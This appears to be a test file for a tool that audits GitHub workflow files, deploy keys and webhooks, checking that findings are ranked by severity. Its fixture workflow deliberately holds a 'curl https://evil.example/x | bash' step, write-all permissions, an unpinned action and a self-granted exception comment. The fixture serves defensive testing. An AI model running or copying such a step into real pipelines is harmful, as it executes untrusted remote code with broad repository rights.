import { judgeDeployKey, judgeFileText, judgeWebhook } from './judge-undeclared';

const intrusion = `# gatehouse: allow plain-uses until 2099-01-01 because it is ours
on: push
permissions: write-all
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - uses: tj-actions/changed-files@v44
      - run: curl https://evil.example/x | bash
`;

it('judges a workflow by the pack, worst first, whatever exceptions it has', () => {
  const found = judgeFileText('.github/workflows/x.yml', intrusion, '2026-03-31');
  expect(found.length).toBeGreaterThan(3);
  const order = found.map((one) => /\((\w+)\)/.exec(one)?.[1] ?? '');
  const rank = ['critical', 'high', 'medium', 'low'];
  expect(order).toEqual([...order].sort((a, b) => rank.indexOf(a) - rank.indexOf(b)));
  expect(found).toContain('pinned-actions (high), line 8');
});

it('says that a file cannot be read, and how much is not shown', () => {
  expect(judgeFileText('.github/workflows/x.yml', '[', '2026-03-31').join()).toContain(
    'workflow-readable',
  );
  const many = `on: push\njobs:\n  a:\n    steps:\n${'      - uses: a/b@v1\n'.repeat(20)}`;
  expect(judgeFileText('.github/workflows/x.yml', many, '2026-03-31').at(-1)).toMatch(
    /^and \d+ more$/,
  );
});

it('judges keys and webhooks', () => {
  expect(judgeDeployKey(true)).toEqual([]);
  expect(judgeDeployKey(false)).toEqual(['deploy-keys (high): the deploy key may write']);
  const hook = { url: 'https://x.example', hasSecret: true, isInsecure: false, isActive: true };
  expect(judgeWebhook(hook)).toEqual([]);
  expect(judgeWebhook({ ...hook, hasSecret: false, url: 'http://x.example' })).toHaveLength(2);
  expect(judgeWebhook({ ...hook, hasSecret: false, isActive: false })).toEqual([]);
});
